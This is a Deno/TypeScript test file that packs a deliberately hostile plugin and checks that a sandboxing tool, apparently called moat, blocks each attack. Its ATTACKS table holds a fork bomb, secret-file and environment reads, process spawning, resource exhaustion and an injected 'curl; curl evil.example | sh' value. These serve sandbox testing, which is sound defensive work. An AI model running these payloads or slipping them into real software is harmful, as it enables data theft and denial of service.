/**
 * A plugin that is code and means harm: packed by npm, installed by the program under test.
 *
 * @module
 */

import assert from "node:assert/strict";
import { join } from "node:path";
import { encodeFrame, FrameDecoder } from "../../core/plugin/code/frames.ts";
import { moatCommand, type Outcome, TestHome } from "./moat.ts";
import { packPlugin } from "./npm_registry.ts";

const MANIFEST = `schema: 1
kind: dependency
id: hostile
version: "1.0.0"
summary: Means harm
category: tool
commands: [sh]
versions: { default: "1", others: 1 }
entry: plugin.js
contract: 1
`;

/** What it tries, one version each. */
const ATTACKS = {
  spy: `
    const report = [];
    const attempt = async (name, act) => {
      try { report.push(name + " got " + JSON.stringify(await act())); }
      catch (error) { report.push(name + " " + error.name); }
    };
    await attempt("read", () => Deno.readTextFileSync(SECRET));
    await attempt("json", async () => (await import(SECRET, { with: { type: "json" } })).default);
    await attempt("text", async () => (await import(SECRET, { with: { type: "text" } })).default);
    await attempt("list", () => [...Deno.readDirSync(HOME)].length);
    await attempt("write", () => Deno.writeTextFileSync(HOME + "/hostile", "1"));
    await attempt("own", () => Deno.writeTextFileSync("/plugin/hostile", "1"));
    await attempt("env", () => Deno.env.get("MOAT_SECRET"));
    await attempt("run", () => new Deno.Command("id").outputSync().code);
    await attempt("tcp", async () => { await Deno.connect({ hostname: "127.0.0.1", port: PORT }); return 1; });
    await attempt("fetch", async () => (await fetch("http://127.0.0.1:" + PORT)).status);
    await attempt("wasm", async () => {
      const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
      return WebAssembly.Module.imports(new WebAssembly.Module(bytes)).length;
    });
    throw new Error(report.join(", "));`,
  stdout: `
    console.log("LEAK");
    Deno.stdout.writeSync(new TextEncoder().encode("LEAK\\n"));
    throw new Error("said it");`,
  spin: "for (;;);",
  memory: "const all = []; for (;;) all.push(new Uint8Array(4e6).fill(1));",
  message: `return { warnings: ["x".repeat(100e6)] };`,
  bomb: `for (;;) {
    try { new Deno.Command("sh", { args: ["-c", ":(){ :|:& };:"] }).spawn(); } catch {}
    new Worker("data:text/javascript,for(;;);", { type: "module" });
  }`,
  forged: "self.postMessage({ kind: 'answer' }); return {};",
  inject: `return { apt: ["curl; curl evil.example | sh"] };`,
  crash: "queueMicrotask(() => { throw new Error('boom'); }); await new Promise(() => {});",
} as const;

/** The name of one. */
export type Attack = keyof typeof ATTACKS;

/** What moat says of each. */
const EXPECTED: Readonly<Record<Attack, RegExp>> = {
  spy: /^error: Cannot use plugin "hostile": read /m,
  stdout: /Cannot use plugin "hostile": said it/,
  spin: /Cannot use plugin "hostile": it does not answer within 5 seconds/,
  memory: /Cannot use plugin "hostile": it (?:uses more than 256 MiB|ended)/,
  message:
    /Cannot use plugin "hostile": (?:its answer is larger|it uses more than 256 MiB|it ended)/,
  bomb: /Cannot use plugin "hostile": it /,
  forged: /Cannot use plugin "hostile": it does not answer as it must/,
  inject: /Cannot use what plugin "hostile" answers: "apt\.0" is not a Debian package/,
  crash: /Cannot use plugin "hostile": .*boom/,
};

/** Tries every attack; each must end the plugin alone, with nothing reached and nothing left. */
export async function assertAttacksFail(hostile: HostilePlugin): Promise<void> {
  const attacks = Object.keys(ATTACKS).filter((name): name is Attack => name in ATTACKS);
  for (const attack of attacks) {
    const outcome = await hostile.run(attack);
    assert.equal(outcome.code, 125, `${attack}: ${outcome.stderr}`);
    assert.match(outcome.stderr, EXPECTED[attack], attack);
    assert.doesNotMatch(`${outcome.stdout}${outcome.stderr}`, /LEAK|SECRET-VALUE/, attack);
    if (attack === "spy") assertReachedNothing(outcome);
    assert.deepEqual(await hostile.leftovers(), [], attack);
  }
  assert.equal(hostile.connections, 0);
}

function assertReachedNothing({ stderr }: Outcome): void {
  const got = [...stderr.matchAll(/(\w+) got (\S+?)(?:,|$)/gm)].map(([, name]) => name);
  // WebAssembly is no more than code.
  assert.deepEqual(got, ["wasm"], stderr);
}

/** The plugin in a home of its own, with a secret and a server to reach. */
export class HostilePlugin implements AsyncDisposable {
  readonly home: TestHome;
  readonly secret: string;
  readonly directory: string;
  readonly #listener: Deno.TcpListener;
  readonly #accepting: Promise<void>;
  connections = 0;

  private constructor(home: TestHome, listener: Deno.TcpListener) {
    this.home = home;
    this.secret = join(home.directory, "secret.json");
    this.directory = join(home.directory, "plugin");
    this.#listener = listener;
    this.#accepting = this.#accept();
  }

  static async install(): Promise<HostilePlugin> {
    const home = await TestHome.create();
    const made = new HostilePlugin(home, Deno.listen({ hostname: "127.0.0.1", port: 0 }));
    await Deno.mkdir(made.temporary);
    await Deno.mkdir(made.directory);
    await Deno.writeTextFile(made.secret, `{ "secret": "SECRET-VALUE" }`);
    await Deno.writeTextFile(join(made.directory, "moat-plugin.yaml"), MANIFEST);
    await Deno.writeTextFile(join(made.directory, "plugin.js"), made.#module());
    const archive = await packPlugin(made.directory, { name: "moat-hostile", version: "1.0.0" });
    await Deno.writeFile(join(home.project, "hostile.tgz"), archive);
    await home.ok(["plugin", "add", "./hostile.tgz", "--yes"]);
    return made;
  }

  get temporary(): string {
    return join(this.home.directory, "tmp");
  }

  get port(): number {
    return this.#listener.addr.port;
  }

  /** Plans a run that names the plugin. */
  async run(attack: Attack): Promise<Outcome> {
    const version = Object.keys(ATTACKS).indexOf(attack) + 1;
    return await this.home.moat(["plan", "--runtime", "local", "--dep", `hostile@${version}`], {
      env: { TMPDIR: this.temporary, MOAT_SECRET: "SECRET-VALUE" },
    });
  }

  /** Runs what the sandbox runs on the machine itself; its messages are the output. */
  async runWithoutSandbox(attack: Attack): Promise<Outcome> {
    const version = Object.keys(ATTACKS).indexOf(attack) + 1;
    const child = new Deno.Command("/bin/sh", {
      args: ["-c", 'exec 3>&1 1>/dev/null; exec "$@"', "sh", ...moatCommand(), "_plugin"],
      env: this.home.env,
      stdin: "piped",
      stdout: "piped",
      stderr: "piped",
    }).spawn();
    const output = child.stdout.getReader();
    const input = child.stdin.getWriter();
    const decoder = new FrameDecoder();
    const messages: unknown[] = [];
    const next = async () => {
      const { value } = await output.read();
      messages.push(...decoder.push(value ?? new Uint8Array()));
    };
    const module = `file://${this.directory}/plugin.js`;
    await next();
    await input.write(encodeFrame({
      module,
      may: { read: [this.directory], write: [], net: [], run: [], env: [] },
    }));
    await next();
    const entry = { text: "hostile", id: "hostile", version: String(version) };
    await input.write(encodeFrame({ entry, target: {} }));
    await next();
    await input.close();
    await output.cancel();
    await child.stderr.cancel();
    const { code } = await child.status;
    return { code, stdout: JSON.stringify(messages).replaceAll("\\", ""), stderr: "" };
  }

  /** What is left of sandboxes: their state, and processes that name it. */
  async leftovers(): Promise<readonly string[]> {
    const left = (await Array.fromAsync(Deno.readDir(this.temporary), ({ name }) => name))
      .filter((name) => name.startsWith("moat-plugin-"));
    for await (const { name } of Deno.readDir("/proc")) {
      if (!/^\d+$/.test(name)) continue;
      const words = await Deno.readTextFile(`/proc/${name}/cmdline`).catch(() => "");
      if (words.includes(this.temporary)) left.push(words.replaceAll("\0", " "));
    }
    return left;
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#listener.close();
    await this.#accepting;
    await this.home[Symbol.asyncDispose]();
  }

  async #accept(): Promise<void> {
    for await (const connection of this.#listener) {
      this.connections++;
      connection.close();
    }
  }

  #module(): string {
    const cases = Object.values(ATTACKS).map((code, index) => `case "${index + 1}": {${code}}`);
    return `
      const SECRET = ${JSON.stringify(this.secret)}, HOME = ${JSON.stringify(this.home.home)};
      const PORT = ${this.port};
      export async function contribute({ version }) { switch (version) { ${cases.join("\n")} } }`;
  }
}
